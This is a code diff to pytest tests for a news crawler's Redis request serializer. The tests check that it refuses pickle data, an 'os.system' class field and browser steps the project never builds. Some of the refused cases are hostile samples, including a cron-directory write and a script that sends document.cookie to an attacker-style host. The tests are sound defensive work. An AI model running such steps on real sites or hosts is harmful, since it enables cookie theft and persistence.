@@ -92,20 +92,62 @@ def test_the_shared_frontier_holds_json_that_cannot_run_code():
     from scrapy_playwright.page import PageMethod
 
     from newscrawler import redis_serializer
+    from newscrawler.rendering import script
     from test_spider import spider_for
 
     spider = spider_for(start_url="http://site.test/")
     request = Request("http://site.test/article/1", method="POST", body=b"\x00\xffbody", callback=spider.parse_article,
                       headers={"Referer": "http://site.test/"},
-                      meta={"playwright": True, "playwright_page_methods": [PageMethod("evaluate", "1+1", {"a": (1, 2)})]})
+                      meta={"playwright": True, "playwright_page_methods": [
+                          PageMethod("evaluate", script("load_more"), {"a": (1, 2)})]})
     data = redis_serializer.dumps(request.to_dict(spider=spider))
     json.loads(data)                                           # plain JSON
     back = request_from_dict(redis_serializer.loads(data), spider=spider)
     assert (back.url, back.body, back.callback) == (request.url, request.body, spider.parse_article)
     assert back.headers["Referer"] == b"http://site.test/"
     [step] = back.meta["playwright_page_methods"]
-    assert (step.method, step.args) == ("evaluate", ("1+1", {"a": [1, 2]}))
+    assert (step.method, step.args) == ("evaluate", (script("load_more"), {"a": [1, 2]}))
     with pytest.raises(ValueError):
         redis_serializer.loads(pickle.dumps({"url": "http://site.test/"}))
     with pytest.raises(ValueError, match="refused"):
         redis_serializer.loads(json.dumps({"url": "http://site.test/", "_class": "os.system"}))
+
+
+@pytest.mark.parametrize("steps, meta, refused", [
+    ([("screenshot", (), {"path": "/tmp/x.png"})], {}, "page method 'screenshot'"),
+    ([("pdf", (), {"path": "/etc/cron.d/x"})], {}, "page method 'pdf'"),
+    ([("evaluate", ("fetch('http://evil.test/' + document.cookie)", {}), {})], {}, "page method 'evaluate'"),
+    ([("wait_for_selector", ("a",), {"state": "attached", "strict": True})], {}, "page method 'wait_for_selector'"),
+    ([], {"playwright_context_kwargs": {"record_har_path": "/tmp/x.har"}}, "playwright_context_kwargs"),
+    ([], {"playwright_page_methods": {"shot": "screenshot"}}, "playwright_page_methods"),
+])
+def test_the_shared_frontier_refuses_browser_steps_the_crawl_never_builds(steps, meta, refused):
+    """A request read back from Redis may carry only the page methods the project builds."""
+    from scrapy import Request
+    from scrapy_playwright.page import PageMethod
+
+    from newscrawler import redis_serializer
+
+    request = Request("http://site.test/", meta={"playwright": True, "playwright_page_methods": [
+        PageMethod(name, *args, **kwargs) for name, args, kwargs in steps], **meta})
+    with pytest.raises(redis_serializer.RefusedRequest, match=refused):
+        redis_serializer.loads(redis_serializer.dumps(request.to_dict()))
+
+
+def test_the_page_methods_the_crawl_builds_pass_the_shared_frontier():
+    from types import SimpleNamespace
+
+    from newscrawler import redis_serializer
+    from newscrawler.rendering.scripts import article_page_methods, listing_page_methods, related_block_method
+
+    config = SimpleNamespace(related_timeout_ms=15000, settle_ms=200, navigation_timeout_ms=30000)
+    selectors = SimpleNamespace(script_args=lambda: {"blockSelector": ".related"})
+    steps = SimpleNamespace(ready_css=".cards", card_css=".card", more_css=".more", max_clicks=3,
+                            known_paths=["/a"], since_ms=None)
+    built = [related_block_method(config, selectors),
+             *article_page_methods(config, SimpleNamespace(rendered_css="article", related=selectors)),
+             *listing_page_methods(config, SimpleNamespace(load_more=lambda state: steps), {})]
+    back = redis_serializer.loads(redis_serializer.dumps({"url": "http://site.test/", "meta": {
+        "playwright": True, "playwright_page_methods": built}}))
+    assert [(s.method, s.args[0], s.kwargs) for s in back["meta"]["playwright_page_methods"]] == \
+        [(s.method, s.args[0], s.kwargs) for s in built]
